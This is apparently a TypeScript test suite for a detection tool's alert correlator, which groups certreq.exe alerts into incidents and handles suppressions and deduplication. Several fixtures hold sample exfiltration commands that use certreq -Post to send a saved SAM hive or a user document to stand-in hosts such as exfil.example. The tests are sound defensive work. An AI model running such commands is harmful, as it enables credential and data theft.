import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Correlator, alertId } from '../../src/correlate/index.js';
import type { Alert } from '../../src/model/alert.js';
import type { WinEvent } from '../../src/model/event.js';
import { BUILTIN, CERTREQ, detections, resetRecords, rule, sysmonStart } from './support/events.js';

type Inc = { id: string; new: boolean; severity: string; first: string; last: string; alert_count: number };
const inc = (a: Alert): Inc => a.context!.incident as Inc;

let n = 0;
function certreqAt(time: string, host = 'WS01', user = 'CONTOSO\\alice', cmd = 'certreq -submit -config ca01\\CA a.req a.cer'): WinEvent {
  n++;
  return sysmonStart({ host, time, guid: `g${n}`, pid: 1000 + n, image: CERTREQ, ofn: 'CertReq.exe', cmd, user });
}

function scan(events: WinEvent[], c = new Correlator()): Alert[] {
  const raised: Alert[] = [];
  for (const ev of events) {
    c.observe(ev);
    raised.push(...c.alertsFor(ev, detections(ev, BUILTIN)));
  }
  return c.finalize(raised);
}

test('alerts on a host within the gap join one incident; a gap longer than the limit opens a new one', () => {
  const alerts = scan([
    certreqAt('2026-03-01T10:00:00Z'),
    certreqAt('2026-03-01T10:20:00Z', 'WS01', 'CONTOSO\\alice', 'certreq -Post -config https://x.example/ C:\\Users\\Public\\sam.save'),
    certreqAt('2026-03-01T10:45:00Z'),
    certreqAt('2026-03-01T11:30:00Z'), // 45 min after the last: new incident
  ]);
  assert.deepEqual(alerts.map((a) => inc(a).new), [true, false, false, true]);
  const [i1, i2] = [inc(alerts[0]!), inc(alerts[3]!)];
  assert.notEqual(i1.id, i2.id);
  assert.deepEqual(alerts.slice(0, 3).map((a) => inc(a).id), [i1.id, i1.id, i1.id]);
  // Incident severity is the highest of its alerts (the sam.save exfiltration), in every member.
  for (const a of alerts.slice(0, 3)) assert.equal(inc(a).severity, 'critical');
  assert.equal(inc(alerts[3]!).severity, 'low');
  assert.deepEqual([i1.first, i1.last, i1.alert_count], ['2026-03-01T10:00:00Z', '2026-03-01T10:45:00Z', 3]);
});

test('the maximum span closes an incident even while alerts keep coming', () => {
  const c = new Correlator({ incidentGapMs: 60 * 60_000, incidentSpanMs: 2 * 3_600_000 });
  const times = ['10:00', '10:50', '11:40', '12:30', '13:20'].map((t) => certreqAt(`2026-03-02T${t}:00Z`));
  const alerts = scan(times, c);
  assert.deepEqual(alerts.map((a) => inc(a).new), [true, false, false, true, false]);
  assert.equal(c.incidents().length, 2);
});

test('events out of time order give the same incidents as sorted input; ids are deterministic', () => {
  const make = (): WinEvent[] => {
    n = 100;
    resetRecords();
    return [certreqAt('2026-03-03T10:00:00Z'), certreqAt('2026-03-03T10:10:00Z'), certreqAt('2026-03-03T12:00:00Z'), certreqAt('2026-03-03T12:05:00Z')];
  };
  const sorted = scan(make());
  const shuffled = make();
  const reordered = scan([shuffled[3]!, shuffled[0]!, shuffled[2]!, shuffled[1]!]);
  assert.deepEqual(reordered.map((a) => a.id), sorted.map((a) => a.id), 'finalize returns time order');
  assert.deepEqual(reordered.map(inc), sorted.map(inc));
  assert.deepEqual(sorted.map((a) => inc(a).new), [true, false, true, false]);
});

test('hosts interleaved form separate incidents; grouping by user splits a host by account', () => {
  const events = [
    certreqAt('2026-03-04T10:00:00Z', 'WS01', 'CONTOSO\\alice'),
    certreqAt('2026-03-04T10:01:00Z', 'WS02', 'CONTOSO\\alice'),
    certreqAt('2026-03-04T10:02:00Z', 'WS01', 'CONTOSO\\bob'),
    certreqAt('2026-03-04T10:03:00Z', 'WS02', 'CONTOSO\\alice'),
  ];
  const byHost = scan(events);
  assert.deepEqual(byHost.map((a) => inc(a).new), [true, true, false, false]);
  assert.equal(inc(byHost[0]!).id, inc(byHost[2]!).id);
  assert.equal(inc(byHost[1]!).id, inc(byHost[3]!).id);
  const byUser = scan(events, new Correlator({ groupByUser: true }));
  assert.deepEqual(byUser.map((a) => inc(a).new), [true, true, true, false]);
});

test('online (serve) assignment marks new vs joining as alerts arrive', () => {
  const c = new Correlator();
  const seen: boolean[] = [];
  for (const ev of [certreqAt('2026-03-05T10:00:00Z'), certreqAt('2026-03-05T10:05:00Z'), certreqAt('2026-03-05T18:00:00Z')]) {
    c.observe(ev);
    for (const a of c.alertsFor(ev, detections(ev, BUILTIN))) seen.push(inc(a).new);
  }
  assert.deepEqual(seen, [true, false, true]);
});

test('the same event matched again never makes a second alert; ids are stable across correlators', () => {
  const ev = certreqAt('2026-03-06T10:00:00Z');
  const c = new Correlator();
  c.observe(ev);
  const first = c.alertsFor(ev, detections(ev, BUILTIN, rule('certreq-renamed')));
  assert.equal(first.length, 2);
  assert.deepEqual(first[0]!.matchedRules, ['certreq-download-upload', 'certreq-renamed']);
  assert.deepEqual(c.alertsFor(ev, detections(ev, BUILTIN)), [], 're-sent event');
  assert.deepEqual(c.alertsFor(structuredClone(ev), detections(ev, BUILTIN)), [], 'equal copy of the event (re-scan)');
  assert.equal(c.stats().duplicates, 2);
  // Duplicated detections in one call and duplicated alerts handed to finalize collapse too.
  const ev2 = certreqAt('2026-03-06T10:01:00Z');
  assert.equal(c.alertsFor(ev2, detections(ev2, BUILTIN, BUILTIN)).length, 1);
  const again = new Correlator();
  const other = again.alertsFor(ev, detections(ev, BUILTIN));
  assert.equal(other[0]!.id, first[0]!.id);
  assert.equal(other[0]!.id, alertId('certreq-download-upload', ev));
  assert.equal(again.finalize([...other, ...other]).length, 1);
});

test('suppressed alerts are kept, marked, counted and listed — and stay out of incidents', () => {
  const c = new Correlator({
    config: { suppressions: [{ id: 'pki', reason: 'PKI team renewals', rule: 'certreq-download-upload', user: 'CONTOSO\\svc_pki', command_line: 'certreq -submit *', expires: '2099-01-01' }] },
  });
  const alerts = scan([
    certreqAt('2026-03-07T10:00:00Z', 'CA01', 'CONTOSO\\svc_pki'),
    certreqAt('2026-03-07T10:01:00Z', 'CA01', 'CONTOSO\\mallory'),
    certreqAt('2026-03-07T10:02:00Z', 'CA01', 'CONTOSO\\svc_pki', 'certreq -Post -config https://x/ C:\\Users\\Public\\sam.save'),
  ], c);
  assert.equal(alerts.length, 3);
  assert.deepEqual(alerts[0]!.context!.suppressed, { by: 'pki', reason: 'PKI team renewals' });
  assert.equal(alerts[0]!.context!.incident, undefined);
  assert.equal(alerts[1]!.context!.suppressed, undefined);
  assert.equal(alerts[2]!.context!.suppressed, undefined, 'a -Post by the same account is not an enrollment');
  assert.equal(c.suppressedCount, 1);
  assert.deepEqual(c.suppressed().map((a) => a.id), [alerts[0]!.id]);
  assert.equal(inc(alerts[1]!).alert_count, 2);
});

test('an expired suppression no longer applies, and is reported', () => {
  const config = { suppressions: [{ id: 'old', host: 'CA01', expires: '2026-01-01T00:00:00Z' }] };
  const before = new Correlator({ config, now: () => new Date('2025-12-31T00:00:00Z') });
  const after = new Correlator({ config, now: () => new Date('2026-01-02T00:00:00Z') });
  const ev = certreqAt('2026-03-08T10:00:00Z', 'CA01');
  assert.ok(scan([ev], before)[0]!.context!.suppressed);
  assert.equal(scan([ev], after)[0]!.context!.suppressed, undefined);
  assert.deepEqual(after.stats().expiredSuppressions, ['old']);
});

test('severity, reason, certreq intent and matched rules are on every alert', () => {
  const ev = certreqAt('2026-03-09T10:00:00Z', 'WS01', 'CONTOSO\\alice', 'certreq -Post -config https://exfil.example/u C:\\Users\\bob\\Documents\\a.xlsx');
  const [a] = scan([ev]);
  const ctx = a!.context!;
  assert.equal(ctx.severity, 'critical');
  assert.match(ctx.reason!, /exfiltration/);
  const cr = ctx.enrichments?.['certreq'] as { verb: string; url: string; upload_file: string; config: string };
  assert.deepEqual([cr.verb, cr.url, cr.upload_file, cr.config], ['post', 'https://exfil.example/u', 'C:\\Users\\bob\\Documents\\a.xlsx', 'https://exfil.example/u']);
  assert.deepEqual(a!.matchedRules, ['certreq-download-upload']);
});
